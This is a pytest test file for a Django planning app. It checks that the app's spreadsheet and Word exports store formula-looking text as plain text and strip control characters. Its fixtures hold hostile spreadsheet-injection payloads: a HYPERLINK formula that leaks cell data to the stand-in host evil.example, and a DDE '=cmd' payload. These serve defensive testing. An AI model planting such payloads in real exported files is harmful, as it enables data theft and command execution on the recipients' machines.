"""The review's export probes: texts that look like formulas are written as text (read back with
openpyxl: no cell of type formula), and control characters in a title no longer break the .xlsx
and .docx exports of the plan, its progress and a campaign's schedule."""

import io

import docx
import openpyxl
import pytest
from django.urls import reverse

from activities.models import Activity, Plan
from tests.activities.conftest import approved  # noqa: F401
from tests.observers.conftest import vpr  # noqa: F401
from vprplan.text import clean_text, sheet_value

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "+7 (900) 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# No NUL (\x00): PostgreSQL cannot store one at all; input cleaning removes it (test_the_rules_themselves).
TITLE = "План мероприятий\x01\x08\x0b\x0c\x1b[31m\x7f на 2025\u0085 год"


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.fixture
def hostile_plan(approved):  # noqa: F811
    Plan.objects.filter(pk=approved.pk).update(title=TITLE, goals=["=cmd|' /C calc'!A0"])
    for activity, text in zip(Activity.objects.filter(plan=approved).order_by("pk"), FORMULAS, strict=False):
        Activity.objects.filter(pk=activity.pk).update(title=text, note="-" + text)
    return approved


def test_exports_write_formula_looking_texts_as_text_and_survive_control_characters(
    client,
    world,
    hostile_plan,
    vpr,  # noqa: F811
    record_property,
):
    vpr.rus_s1.note = FORMULAS[0]
    vpr.rus_s1.save()
    client.force_login(world.coordinator)
    urls = {
        "plan.xlsx": reverse("reports:plan_export_xlsx", args=[hostile_plan.pk]),
        "progress.xlsx": reverse("activities:plan_progress_xlsx", args=[hostile_plan.pk]),
        "schedule.xlsx": reverse("schools:session_export", args=[vpr.campaign.pk]),
    }
    written, formulas, texts = 0, 0, set()
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        found = cells(body(response))
        written += len(found)
        formulas += sum(1 for c in found if c.data_type == "f")
        texts |= {str(c.value) for c in found}
    assert formulas == 0
    for text in FORMULAS:  # shown as typed (only the control characters go)
        assert clean_text(text).replace("\n", "") in {t.replace("\n", "") for t in texts}, text
    assert any("План мероприятий[31m на 2025 год" in t for t in texts)
    response = client.get(reverse("reports:plan_export_docx", args=[hostile_plan.pk]))
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(body(response)))
    assert "План мероприятий[31m на 2025 год" in "\n".join(p.text for p in document.paragraphs)
    record_property("export_formula_texts", len(FORMULAS) + 2)
    record_property("export_cells_read_back", written)
    record_property("export_formula_cells", formulas)


def test_the_rules_themselves():
    assert clean_text("a\x00b\r\nc\rd\te\x1f\u2028") == "ab\nc\nd\te\u2028"
    assert sheet_value("=1+1").__class__.__name__ == "CellRichText" and sheet_value("1+1") == "1+1"
    assert sheet_value(float("inf")) == "inf" and sheet_value(5) == 5


def test_text_typed_into_a_form_is_cleaned_before_it_is_stored(client, world):
    client.force_login(world.coordinator)
    response = client.post(
        reverse("activities:plan_create"),
        {
            "owner": world.m1.pk,
            "title": "План\x01\x02 на\r\n2025",
            "kind": "roadmap",
            "period_text": "2025\x1b год",
            "period_start": "2025-01-01",
            "period_end": "2025-12-31",
            "section_numbering": "arabic",
        },
    )
    assert response.status_code == 302
    plan = Plan.objects.get()
    assert (plan.title, plan.period_text) == ("План на\n2025", "2025 год")
